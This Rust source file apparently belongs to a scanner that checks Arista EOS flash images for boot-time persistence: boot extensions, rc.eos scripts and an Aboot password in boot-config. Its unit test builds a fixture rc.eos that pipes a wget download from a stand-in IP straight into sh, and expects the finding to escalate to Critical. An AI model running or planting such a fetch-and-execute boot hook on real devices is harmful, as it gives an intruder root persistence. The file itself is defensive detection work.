//! Arista EOS flash: extensions installed at every boot (`boot-extensions`,
//! `.extensions/`), `rc.eos` run at boot, and the Aboot password in
//! `boot-config`. The startup-config's users, keys, event-handlers and
//! daemons are judged by the IOS-family rules ([`super::ios`]).

use super::content::escalate;
use super::Guest;
use crate::finding::{Category, Confidence, Finding, Layer, Rule, Severity};

/// Extensions installed at boot.
pub static BOOT_EXTENSION: Rule = Rule {
    id: "eos-boot-extension",
    title: "EOS extension installed at every boot",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc: "`boot-extensions` lists SWIX/RPM files from `.extensions/` that EOS installs as root at \
          every boot: code outside the signed .swi. vEOS-lab images ship with neither.",
};
/// rc.eos.
pub static RC_EOS: Rule = Rule {
    id: "eos-rc-eos",
    title: "rc.eos runs at boot",
    severity: Severity::High,
    confidence: Confidence::Medium,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc:
        "/mnt/flash/rc.eos is executed by EOS at boot, as root, before the configuration loads: a \
          persistence hook outside the signed image. Critical when it downloads and runs code or \
          opens a shell.",
};
/// Aboot password.
pub static ABOOT_PASSWORD: Rule = Rule {
    id: "eos-aboot-password",
    title: "Aboot password set in boot-config",
    severity: Severity::Low,
    confidence: Confidence::High,
    category: Category::Account,
    layer: Layer::Accounts,
    doc: "`PASSWORD=` in boot-config protects the Aboot shell; a shipped image carrying one means \
          whoever prepared it controls the boot loader shell (and the hash is in the file).",
};

/// Every rule of this family.
pub static RULES: &[Rule] = &[BOOT_EXTENSION, RC_EOS, ABOOT_PASSWORD];

/// Runs the family on an EOS flash.
pub fn check(g: &Guest<'_, '_>) -> Vec<Finding> {
    let mut out = Vec::new();
    let Some(e) = &g.appliance.eos else {
        return out;
    };
    for (line, text) in &e.boot_extensions {
        out.push(
            g.at(
                &BOOT_EXTENSION,
                "/boot-extensions",
                format!("boot extension {text}"),
            )
            .line(Some(*line))
            .evidence("line", text.clone()),
        );
    }
    for x in &e.extensions {
        out.push(
            g.at(&BOOT_EXTENSION, x, format!("extension file {x}"))
                .severity(Severity::Low),
        );
    }
    if let Some(cmd) = &e.rc_eos {
        let f = g
            .at(&RC_EOS, "/rc.eos", "rc.eos runs at boot")
            .evidence("command", cmd.clone());
        let script = g.tree.read(b"/rc.eos", 1 << 20);
        let text = script
            .content()
            .map(String::from_utf8_lossy)
            .unwrap_or_default();
        out.push(escalate(f, &text));
    }
    for (line, text) in &e.boot_config {
        if text.starts_with("PASSWORD=") {
            out.push(
                g.at(&ABOOT_PASSWORD, "/boot-config", "Aboot password set")
                    .line(Some(*line)),
            );
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{findings, ids, Fixture};

    #[test]
    fn vendor_flash_is_quiet_and_hooks_are_not() {
        let mut f = Fixture::new();
        f.fs.file("/vEOS-lab-4.28.3M.swi", 0o644, b"s")
            .file("/boot-config", 0o644, b"SWI=flash:/vEOS-lab-4.28.3M.swi\n")
            .file("/zerotouch-config", 0o644, b"DISABLE=True\n");
        assert!(findings(&f, check).is_empty());
        f.fs.file("/boot-extensions", 0o644, b"tool.swix\n")
            .file("/.extensions/tool.swix", 0o644, b"x")
            .file(
                "/rc.eos",
                0o755,
                b"#!/bin/sh\nwget -O- http://203.0.113.1/x | sh\n",
            )
            .file(
                "/boot-config",
                0o644,
                b"SWI=flash:/vEOS-lab-4.28.3M.swi\nPASSWORD=$1$abc$def\n",
            );
        let found = findings(&f, check);
        assert_eq!(
            ids(&found),
            [
                "eos-boot-extension",
                "eos-boot-extension",
                "eos-rc-eos",
                "eos-aboot-password"
            ]
        );
        assert_eq!(found[2].severity, Severity::Critical);
    }
}
